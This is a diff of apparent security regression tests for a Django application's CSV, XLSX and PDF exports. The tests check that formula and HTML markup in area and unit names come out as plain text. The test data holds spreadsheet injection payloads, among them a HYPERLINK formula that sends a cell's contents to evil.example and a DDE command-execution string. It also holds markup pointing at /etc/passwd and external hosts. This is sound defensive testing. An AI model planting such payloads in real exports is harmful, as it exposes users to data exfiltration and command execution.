@@ -180,3 +180,76 @@ def test_subscription_needs_figures_for_the_area(world: t.World) -> None:
         services.subscription_create(
             actor=world.people["supervisor"], area=world.areas["street_a1"], frequency="daily"
         )
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1"]
+
+
+def test_exports_write_typed_names_as_text_never_as_formulas(
+    world: t.World, rolled: Any, client_for: Any
+) -> None:
+    from openpyxl import load_workbook
+
+    from needle.areas.models import Area
+    from needle.orgs.models import Unit
+
+    # The street's children are the communities; the grid is a child of community A1a.
+    Area.objects.filter(pk=world.areas["community_a1a"].pk).update(name=FORMULAS[0])
+    Area.objects.filter(pk=world.areas["community_a1b"].pk).update(name=FORMULAS[1])
+    Area.objects.filter(pk=world.areas["grid_a1a"].pk).update(name=FORMULAS[2])
+    Unit.objects.filter(pk=world.units["rc_a1a"].pk).update(name=FORMULAS[3])
+    Unit.objects.filter(pk=world.units["district_a_env"].pk).update(name=FORMULAS[4] + "\x07")
+    client = client_for("city_admin")
+    cells: list[str] = []
+    for area in ("500103001000", "500103001001"):
+        r = client.get("/operations/export.csv", {"area": area})
+        assert r.status_code == 200
+        cells += [c for row in csv.reader(io.StringIO(r.content.decode("utf-8-sig"))) for c in row]
+    for name in FORMULAS[:3]:
+        assert "'" + name in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    typed: dict[str, str] = {}
+    exports = [{"area": "500103001000"}, {"area": "500103001001"}, {"unit": str(world.units["rc_a1a"].pk)}]
+    for params in [*exports, {"area": "500103000000"}]:
+        r = client.get("/operations/export.xlsx", params)
+        assert r.status_code == 200
+        for sheet in load_workbook(io.BytesIO(r.content)).worksheets:
+            for row in sheet.iter_rows():
+                typed.update((c.value, c.data_type) for c in row if isinstance(c.value, str))
+    # XLSX keeps the names exactly, as text cells (a formula cell would read back as "f").
+    assert {name: typed.get(name) for name in FORMULAS[:4]} == dict.fromkeys(FORMULAS[:4], "s")
+    assert typed.get(FORMULAS[4]) == "s"  # the control character XML cannot hold is dropped
+
+
+MARKUP = [
+    "Broken <b>unclosed",
+    '<img src="/etc/passwd">',
+    '<a href="http://evil.example/">点我</a>',
+    '<img src="http://127.0.0.1:9/x.png"/>',
+]
+
+
+@pytest.mark.parametrize("name", MARKUP)
+def test_pdf_report_prints_markup_in_names_as_text(
+    world: t.World, rolled: Any, client_for: Any, name: str
+) -> None:
+    from needle.areas.models import Area
+
+    Area.objects.filter(pk=world.areas["district_a"].pk).update(name=name)
+    client = client_for("city_admin")
+    for code in ("500103000000", "500100000000"):  # the area itself, and the area as a child
+        r = client.get(f"/operations/area/{code}/report.pdf", {"kind": "monthly"})
+        assert r.status_code == 200 and r.content.startswith(b"%PDF")
+        assert b"/URI" not in r.content and b"/Subtype /Image" not in r.content
+
+
+def test_pdf_report_never_opens_a_file_named_in_a_title(world: t.World, rolled: Any, tmp_path: Any) -> None:
+    from PIL import Image
+
+    dot = tmp_path / "dot.png"
+    Image.new("RGB", (4, 4), "red").save(dot)
+    d = selectors.dashboard_for(
+        actor=world.people["city_admin"], area=world.areas["district_a"], **_default_period()
+    )
+    pdf = reports.report_pdf(d, title=f'<img src="{dot}" width="5" height="5"/>')
+    assert pdf.startswith(b"%PDF") and b"/Subtype /Image" not in pdf
